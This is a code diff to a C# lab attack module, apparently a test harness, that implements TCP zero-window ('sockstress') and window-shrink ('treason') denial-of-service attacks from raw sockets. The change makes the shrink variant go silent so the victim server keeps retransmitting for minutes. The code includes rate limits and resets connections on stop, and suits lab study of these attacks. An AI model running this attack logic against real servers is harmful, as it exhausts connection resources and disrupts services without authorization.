@@ -10,10 +10,11 @@ namespace Uncloak.Lab.Attacks;
 /// <summary>
 /// Holds the victim's connections open with a closed window, from a raw socket (the attacker's kernel never knows these
 /// connections; its RSTs are dropped by the lab's nft rule). Per connection: SYN, ACK, <c>GET /big</c>, then — when the
-/// first data arrives — window 0, answering every probe and re-sending the zero-window ACK each second so the server
-/// keeps waiting. <see cref="AttackKind.ZeroWindow"/> acknowledges the data it got (the sockstress form: the peer "stopped
-/// reading"); <see cref="AttackKind.WindowShrink"/> acknowledges nothing, so the window's right edge moves back with data
-/// in flight (the "treason" form). Connections the server resets or closes are replaced, at most
+/// first data arrives — window 0. <see cref="AttackKind.ZeroWindow"/> acknowledges the data it got (the sockstress form: the peer "stopped
+/// reading") and answers every probe, re-sending the zero-window ACK each second so the server keeps waiting;
+/// <see cref="AttackKind.WindowShrink"/> acknowledges nothing, so the window's right edge moves back with data
+/// in flight (the "treason" form) and then falls silent, as the peer of the kernel's "Peer ... unexpectedly shrunk window"
+/// message does: the server retransmits into the closed window with backoff for many minutes. Connections the server resets or closes are replaced, at most
 /// <see cref="AttackLimits.Connections"/> new attempts per second. On stop, every held connection is reset so the victim
 /// is released.
 /// </summary>
@@ -124,7 +125,7 @@ public sealed class WindowHolder : IAttack
             // Keep every held connection alive: the server must see a peer that answers, with its window still shut.
             foreach (var c in connections.Values)
             {
-                if (c.Phase == Phase.Holding && now - c.LastAck >= KeepAlive)
+                if (!_shrink && c.Phase == Phase.Holding && now - c.LastAck >= KeepAlive)
                 {
                     Send(ToServer(c, TcpFlags.Ack, c.Isn + 1 + (uint)request.Length, c.ReceiveNext, 0));
                     c.LastAck = now;
@@ -166,7 +167,7 @@ public sealed class WindowHolder : IAttack
                     conn.Phase = Phase.Holding;
                     conn.LastAck = now;
                     break;
-                case Phase.Holding:
+                case Phase.Holding when !_shrink:
                     // A window probe or a retransmission: the answer is always the same closed window. Hold: data that was
                     // already in flight inside the window offered before is acknowledged, so the window never shrinks.
                     Accept(conn, s);
